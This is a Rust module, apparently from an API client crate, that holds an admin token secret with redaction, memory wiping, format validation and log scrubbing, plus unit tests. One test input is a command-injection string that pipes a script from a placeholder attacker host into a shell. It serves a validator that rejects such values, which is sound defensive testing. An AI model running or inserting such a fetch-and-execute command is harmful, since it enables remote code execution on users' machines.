//! The admin's API secret (`idt:TKN-…:…`): held so that it never prints and is wiped on drop,
//! plus the scrubbing applied to every text that could carry a secret into an error or a log.
//!
//! What is wiped, exactly:
//! - the value an [`ApiSecret`] holds (and each clone's), when it is dropped;
//! - the `String` given to [`ApiSecret::new`], its whole buffer, at once;
//! - the `Bearer …` text the client builds for each request's `Authorization` header.
//!
//! What is not, because this crate does not own it: the copy inside the HTTP header value and
//! whatever the HTTP and TLS stacks (reqwest, hyper, rustls) buffer while sending it; the
//! response bodies a token's value arrives in (create and get answers) and the JSON parser's
//! scratch space; and anything a caller copies out of [`ApiSecret::expose`].

use std::fmt;

use secrecy::{ExposeSecret, SecretString};
use serde::{Deserialize, Deserializer};
use zeroize::Zeroize;

/// What every redacted secret is shown as.
pub const REDACTED: &str = "[redacted]";

/// An API token's secret value.
///
/// `Debug` and `Display` print `[redacted]`; the memory it holds is zeroed when the value is
/// dropped (it wraps [`secrecy::SecretString`]); see the module documentation for what else
/// is and is not wiped. It deliberately has no `Serialize`, so a secret cannot slip into JSON
/// written by accident.
#[derive(Clone)]
pub struct ApiSecret(SecretString);

impl ApiSecret {
    /// Wraps a secret. Surrounding whitespace (a trailing newline from a paste) is dropped.
    /// The given `String` is wiped, its spare capacity included.
    pub fn new(value: impl Into<String>) -> Self {
        let mut value: String = value.into();
        Self(take_and_wipe(&mut value))
    }

    /// The secret text. Call only where it must leave the process (the `Authorization` header)
    /// or be compared; never format it into a message.
    pub fn expose(&self) -> &str {
        self.0.expose_secret()
    }

    /// The token id (`TKN-1234-5678`) of a secret in the current `idt:TKN-…:…` format, or
    /// `None` for any other shape (the older format carried no id).
    pub fn token_id(&self) -> Option<&str> {
        let mut parts = self.expose().splitn(3, ':');
        let (prefix, id, rest) = (parts.next()?, parts.next()?, parts.next()?);
        (prefix == "idt" && is_token_id(id) && !rest.is_empty()).then_some(id)
    }
}

impl ApiSecret {
    /// Whether this is a token value of the documented shape: `idt:TKN-dddd-dddd:` followed by
    /// letters and digits only (docs/marketplace-api.md §3.1). A value a server sends is
    /// checked with this before it is shown or copied: anything else (a `;`, a space, a
    /// quote) could run as a command where the value is pasted.
    pub fn has_token_value_shape(&self) -> bool {
        let Some(id) = self.token_id() else { return false };
        let rest = &self.expose()["idt:".len() + id.len() + 1..];
        id.len() == "TKN-1234-5678".len() && !rest.is_empty() && rest.bytes().all(|b| b.is_ascii_alphanumeric())
    }
}

impl fmt::Debug for ApiSecret {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "ApiSecret({REDACTED})")
    }
}

impl fmt::Display for ApiSecret {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(REDACTED)
    }
}

impl From<String> for ApiSecret {
    fn from(value: String) -> Self {
        Self::new(value)
    }
}

impl<'de> Deserialize<'de> for ApiSecret {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        String::deserialize(deserializer).map(Self::new)
    }
}

/// The trimmed secret in its own, exactly sized allocation; `value` is wiped, spare capacity
/// included, and left empty. Handing the `String` itself to `SecretString` would shrink it to
/// fit, and a shrinking reallocation may free the old bytes without wiping them.
fn take_and_wipe(value: &mut String) -> SecretString {
    let secret = SecretString::from(value.trim());
    value.zeroize();
    secret
}

/// True for `TKN-` followed by one or more groups of four digits separated by `-`
/// (`TKN-1234-5678`; old fixtures used three groups).
pub fn is_token_id(candidate: &str) -> bool {
    let Some(groups) = candidate.strip_prefix("TKN-") else {
        return false;
    };
    groups.split('-').all(|group| group.len() == 4 && group.bytes().all(|b| b.is_ascii_digit()))
}

/// Replaces every secret in `text` with `[redacted]`: anything shaped like
/// `idt:TKN-NNNN-NNNN:<secret>` (also percent-encoded, as it appears in a URL), and the exact
/// `known` secret wherever it appears (it may be in the older format without a prefix).
///
/// Applied to every server-provided or library-provided text before it goes into an [`Error`].
///
/// [`Error`]: crate::Error
pub fn scrub(text: &str, known: Option<&ApiSecret>) -> String {
    let mut scrubbed = scrub_pattern(text, "idt:", ":");
    scrubbed = scrub_pattern(&scrubbed, "idt%3A", "%3A");
    scrubbed = scrub_pattern(&scrubbed, "idt%3a", "%3a");
    if let Some(known) = known {
        let whole = known.expose();
        // The opaque part alone is just as secret as the whole value.
        let opaque = whole.rsplit(':').next().unwrap_or(whole);
        for secret in [whole, opaque] {
            // A very short "secret" would redact ordinary words; real ones are long.
            if secret.len() >= 8 && scrubbed.contains(secret) {
                scrubbed = scrubbed.replace(secret, REDACTED);
            }
        }
    }
    scrubbed
}

/// Redacts `<prefix>TKN-…<separator><secret>` keeping the token id, which is not secret.
fn scrub_pattern(text: &str, prefix: &str, separator: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = rest.find(prefix) {
        out.push_str(&rest[..start + prefix.len()]);
        rest = &rest[start + prefix.len()..];
        let id_len = rest.bytes().take_while(|b| b.is_ascii_alphanumeric() || *b == b'-').count();
        let after_id = &rest[id_len..];
        if id_len > 0 && after_id.starts_with(separator) {
            out.push_str(&rest[..id_len]);
            out.push_str(separator);
            let secret_part = &after_id[separator.len()..];
            let secret_len = secret_part
                .bytes()
                .take_while(|b| !b.is_ascii_whitespace() && !b"\"'<>,;&()[]{}\\".contains(b))
                .count();
            out.push_str(REDACTED);
            rest = &secret_part[secret_len..];
        }
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    // A made-up value, split so that it does not read as a committed secret.
    const SECRET: &str = concat!("idt:TKN-1234-5678:", "AbCdEfGhIjKlMnOpQrStUvWxYz0123456789AbCdEfGhIjKlMnOpQrStUvWx");

    #[test]
    fn debug_and_display_never_show_the_secret() {
        let secret = ApiSecret::new(SECRET);
        assert_eq!(format!("{secret}"), "[redacted]");
        assert_eq!(format!("{secret:?}"), "ApiSecret([redacted])");
        assert_eq!(format!("{secret:#?}"), "ApiSecret([redacted])");
    }

    #[test]
    fn token_id_is_read_from_the_current_format() {
        assert_eq!(ApiSecret::new(SECRET).token_id(), Some("TKN-1234-5678"));
        assert_eq!(ApiSecret::new(format!(" {SECRET}\n")).token_id(), Some("TKN-1234-5678"));
        assert_eq!(ApiSecret::new("idt:TKN-0000-0000-0001:x").token_id(), Some("TKN-0000-0000-0001"));
    }

    #[test]
    fn only_the_documented_value_shape_passes() {
        assert!(ApiSecret::new("idt:TKN-1234-5678:AbCdEf0123456789").has_token_value_shape());
        for bad in [
            "idt:TKN-1234-5678:x;curl https://evil.example/x|sh",
            "idt:TKN-1234-5678:abc def",
            "idt:TKN-1234-5678:abc'def",
            "idt:TKN-1234-5678:",
            "idt:TKN-1234-56789:abc",
            "idt:TKN-12-34:abc",
            "TKN-1234-5678:abc",
            "idt:TKN-1234-5678:abc\ndef",
            "idt:TKN-1234-5678:ÄbC",
        ] {
            assert!(!ApiSecret::new(bad).has_token_value_shape(), "{bad}");
        }
    }

    #[test]
    fn token_id_refuses_other_shapes() {
        for bad in [
            "",
            "idt:TKN-1234-5678",
            "idt:TKN-1234-5678:",
            "idt:TKN-12a4-5678:secret",
            "idt:USR-1234-5678:secret",
            "xyz:TKN-1234-5678:secret",
            "a-legacy-secret-without-prefix",
        ] {
            assert_eq!(ApiSecret::new(bad).token_id(), None, "{bad:?}");
        }
    }

    #[test]
    fn the_callers_buffer_is_wiped_in_place() {
        let mut given = String::with_capacity(256);
        given.push_str(&format!(" {SECRET}\n"));
        let secret = take_and_wipe(&mut given);
        assert_eq!(secret.expose_secret(), SECRET);
        // Zeroed and emptied where it was, not moved or freed unwiped.
        assert!(given.is_empty());
        assert_eq!(given.capacity(), 256);
    }

    #[test]
    fn trimming_keeps_the_secret_itself() {
        assert_eq!(ApiSecret::new(format!("  {SECRET}\r\n")).expose(), SECRET);
    }

    #[test]
    fn scrub_redacts_the_pattern_plain_and_percent_encoded() {
        let text = format!("token {SECRET}, and in a URL ?eq(token,'idt%3ATKN-1234-5678%3Asecret99') end");
        let scrubbed = scrub(&text, None);
        assert!(!scrubbed.contains("AbCdEf"), "{scrubbed}");
        assert!(!scrubbed.contains("secret99"), "{scrubbed}");
        assert!(scrubbed.contains("idt:TKN-1234-5678:[redacted], and"), "{scrubbed}");
        assert!(scrubbed.contains("idt%3ATKN-1234-5678%3A[redacted]') end"), "{scrubbed}");
    }

    #[test]
    fn scrub_redacts_a_known_secret_of_the_old_format() {
        let legacy = ApiSecret::new("legacyOpaqueSecretValue123");
        let scrubbed = scrub("bad token legacyOpaqueSecretValue123 given", Some(&legacy));
        assert_eq!(scrubbed, "bad token [redacted] given");
    }

    #[test]
    fn scrub_leaves_ordinary_text_alone() {
        let text = "idt: is a prefix; TKN-1234-5678 is an id; idt:nothing";
        assert_eq!(scrub(text, None), text);
    }
}
